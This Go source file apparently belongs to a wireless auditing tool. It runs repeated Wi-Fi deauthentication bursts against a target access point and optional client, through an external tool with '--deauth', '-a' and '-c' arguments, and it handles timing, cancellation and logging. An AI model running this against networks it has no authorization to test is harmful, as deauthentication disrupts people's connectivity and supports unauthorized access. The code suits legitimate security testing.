package session

import (
	"fmt"
	"sync"
	"time"

	"bytemomo/moray/internal/domain"
	"bytemomo/moray/internal/metrics"
	"bytemomo/moray/internal/morayerr"
	"bytemomo/moray/internal/process"

	log "github.com/sirupsen/logrus"
)

const (
	// DefaultBurstInterval separates two bursts of one Start.
	DefaultBurstInterval = 10 * time.Second
	// deauthCount is the number of deauthentication groups per burst.
	deauthCount = "5"
)

// Deauth sends periodic deauthentication bursts from a background worker.
type Deauth struct {
	Tool     string
	Interval time.Duration

	runner process.Runner
	log    *log.Entry

	mu      sync.Mutex
	running bool
	stop    chan struct{}
	done    chan struct{}
	proc    process.Process
}

var _ domain.DeauthSession = (*Deauth)(nil)

func NewDeauth(r process.Runner, l *log.Entry) *Deauth {
	return &Deauth{
		Tool:     DefaultDeauthTool,
		Interval: DefaultBurstInterval,
		runner:   r,
		log:      entry(l, "deauth"),
	}
}

// Bursts returns how many bursts a run of duration sends: one per started
// interval, at least one.
func Bursts(duration, interval time.Duration) int {
	if interval <= 0 {
		interval = DefaultBurstInterval
	}
	n := int((duration + interval - 1) / interval)
	return max(n, 1)
}

// Start replaces any previous run with a new worker. It never fails; worker
// faults are logged.
func (d *Deauth) Start(iface, bssid, client string, duration time.Duration) {
	d.Stop()

	args := []string{"--deauth", deauthCount}
	if client != "" {
		args = append(args, "-c", client)
	}
	args = append(args, "-a", bssid, iface)

	stop := make(chan struct{})
	done := make(chan struct{})
	bursts := Bursts(duration, d.Interval)

	d.mu.Lock()
	d.stop = stop
	d.done = done
	d.running = true
	d.mu.Unlock()

	d.log.WithFields(log.Fields{
		"bssid":  bssid,
		"client": client,
		"bursts": bursts,
	}).Info("Deauthentication started")

	go d.work(args, bursts, stop, done)
}

func (d *Deauth) work(args []string, bursts int, stop, done chan struct{}) {
	defer close(done)
	defer func() {
		d.mu.Lock()
		d.running = false
		d.proc = nil
		d.mu.Unlock()
	}()
	defer func() {
		if r := recover(); r != nil {
			err := morayerr.E("session.deauth.worker", morayerr.ErrWorkerFault, "panic", fmt.Errorf("%v", r))
			d.log.WithError(err).Error("Deauthentication worker crashed")
		}
	}()

	interval := d.Interval
	if interval <= 0 {
		interval = DefaultBurstInterval
	}

	for i := range bursts {
		if !d.burst(args, i, stop) {
			return
		}
		if i == bursts-1 {
			break
		}
		timer := time.NewTimer(interval)
		select {
		case <-stop:
			timer.Stop()
			return
		case <-timer.C:
		}
	}
}

// burst runs one deauthentication process to completion. It reports false
// when the worker must exit.
func (d *Deauth) burst(args []string, i int, stop chan struct{}) bool {
	select {
	case <-stop:
		return false
	default:
	}

	p, err := d.runner.Spawn(d.Tool, args, true)
	if err != nil {
		err = morayerr.E("session.deauth.burst", morayerr.ErrWorkerFault, "spawn", err)
		d.log.WithError(err).Error("Deauthentication burst failed")
		return false
	}
	metrics.DeauthBursts.Inc()

	d.mu.Lock()
	select {
	case <-stop:
		d.mu.Unlock()
		_ = p.Terminate()
		return false
	default:
	}
	d.proc = p
	d.mu.Unlock()

	l := d.log.WithFields(log.Fields{"burst": i + 1, "pid": p.PID()})
	for {
		line, err := p.ReadLine()
		if err != nil {
			break
		}
		l.Debug(line)
	}
	if code, err := p.Wait(); err != nil {
		l.WithField("code", code).Debug("Burst exited abnormally")
	}

	d.mu.Lock()
	d.proc = nil
	d.mu.Unlock()
	return true
}

// Stop cancels the worker, terminates the in-flight burst and waits for the
// worker to exit. Safe to call repeatedly.
func (d *Deauth) Stop() {
	d.mu.Lock()
	stop, done, p := d.stop, d.done, d.proc
	d.stop, d.done = nil, nil
	if stop != nil {
		close(stop)
	}
	d.mu.Unlock()

	if stop == nil {
		return
	}
	if p != nil {
		if err := p.Terminate(); err != nil {
			d.log.WithError(err).Warn("Failed to terminate burst")
		}
	}
	<-done
	d.log.Info("Deauthentication stopped")
}

func (d *Deauth) IsRunning() bool {
	d.mu.Lock()
	defer d.mu.Unlock()
	return d.running
}
